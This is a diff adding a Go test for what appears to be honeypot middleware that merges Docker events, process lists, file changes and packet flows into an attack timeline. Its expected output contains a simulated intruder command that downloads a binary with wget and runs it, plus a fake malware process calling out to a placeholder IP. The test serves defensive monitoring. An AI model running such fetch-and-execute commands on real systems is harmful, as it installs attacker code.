@@ -0,0 +1,71 @@
+package middleware
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/docker/docker/api/types/events"
+)
+
+func TestTimeline(t *testing.T) {
+	dir, err := ioutil.TempDir("", "timeline")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+
+	runPath := writeTestRun(t, dir)
+	top := "UID    PID    PPID   C   STIME   TTY   TIME       CMD\nroot   1      0      0   10:00   ?     00:00:00   /usr/sbin/sshd -D\nroot   42     1      9   10:01   ?     00:00:05   ./x -c 198.51.100.7\n"
+	if err := ioutil.WriteFile(filepath.Join(runPath, "container.top"), []byte(top), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	started := time.Unix(1600000000, 0)
+	docker, matched := DockerEvent(events.Message{
+		Action:   "die",
+		Actor:    events.Actor{ID: "abc", Attributes: map[string]string{"pot.name": "ssh", "name": "ssh", "image": "cowrie", "exitCode": "137"}},
+		TimeNano: started.Add(-10 * time.Second).UnixNano(),
+	})
+	if !matched || docker.Message != "container ssh die with exit code 137" || docker.Severity != SeverityMedium {
+		t.Errorf("docker event not match\nactual: %+v", docker)
+	}
+	if _, matched := DockerEvent(events.Message{Action: "top", Actor: events.Actor{Attributes: map[string]string{"pot.name": "ssh"}}}); matched {
+		t.Errorf("docker top event of collection should be skipped")
+	}
+
+	timeline := NewTimeline("ssh", started.Add(-time.Minute), started.Add(2*time.Minute))
+	timeline.Add(TimelineEvents,
+		docker,
+		Event{Time: started.Add(30 * time.Second), Pot: "ssh", Kind: EventFileChange, Path: "/tmp/x", Message: "file /tmp/x added"},
+		Event{Time: started.Add(time.Second), Pot: "ssh", Kind: EventOutbound, Protocol: "tcp", SourceIP: "172.18.0.2", SourcePort: 40000, DestinationIP: "198.51.100.7", DestinationPort: 8080},
+		Event{Time: started, Pot: "telnet", Kind: EventConnection},
+		Event{Time: started.Add(time.Hour), Pot: "ssh", Kind: EventCPUSpike},
+	)
+	if err := timeline.AddRun(runPath); err != nil {
+		t.Fatal(err)
+	}
+
+	var actual []string
+	for _, entry := range timeline.Entries() {
+		actual = append(actual, entry.Source+" "+entry.Kind+" "+entry.Message)
+	}
+	expected := []string{
+		"events docker container ssh die with exit code 137",
+		"run collect collection ssh_1600000000 started by  trigger",
+		"log login login attempt [root/123456] succeeded",
+		"log command CMD: cd /tmp; wget http://203.0.113.5/bins/x86 -O x; sh x",
+		"diff file file /tmp changed",
+		"top process process /usr/sbin/sshd -D running",
+		"top process process ./x -c 198.51.100.7 running",
+		"pcap flow outbound tcp flow 172.18.0.2:40000 -> 198.51.100.7:8080, 1 packet(s), 125B over 0s",
+		"events file file /tmp/x added",
+		"run collect collected ssh_1600000000 by  trigger",
+	}
+	if strings.Join(actual, "\n") != strings.Join(expected, "\n") {
+		t.Errorf("timeline not match\nexpected: %s\nactual: %s", strings.Join(expected, "\n"), strings.Join(actual, "\n"))
+	}
+}